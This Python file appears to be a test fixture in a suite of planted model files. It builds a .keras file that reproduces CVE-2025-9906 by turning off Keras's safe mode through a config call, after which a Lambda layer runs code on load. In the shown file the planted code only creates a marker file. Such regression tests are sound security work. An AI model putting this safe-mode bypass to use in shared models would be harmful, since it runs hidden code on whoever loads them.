"""A `.keras` file that switches the safe mode off while it is loaded.

CVE-2025-9906: until Keras 3.11.0 a configuration could call what `keras.config.enable_unsafe_deserialization()` does,
so that a Lambda layer behind it was deserialized with its Python code.
The fix: https://github.com/keras-team/keras/pull/21429.
"""

import tensorflow as tf
from _planted import add_layers, calling, is_marked

FORMATS = ("keras",)
REQUIRES = "keras>=3"
TAGS = ("executes", "upstream")


def build_model():
    features = tf.keras.Input((4,))
    return tf.keras.Model(features, tf.keras.layers.Dense(2)(features))


def inputs(rng):
    return rng.uniform(size=(3, 4)).astype("float32")


def plant(path):
    features = tf.keras.Input((4,))
    code = tf.keras.layers.Lambda(lambda x: (open("executed", "w").close(), x)[1])  # noqa: PTH123
    model = tf.keras.Model(features, code(features)).to_json()
    state = "keras.src.backend.common.global_state"
    switch = calling("switch", state, "set_global_attribute", "safe_mode_saving", value=False)
    add_layers(path, switch, calling("planted", "keras.models", "model_from_json", model))


def executed():
    return is_marked()
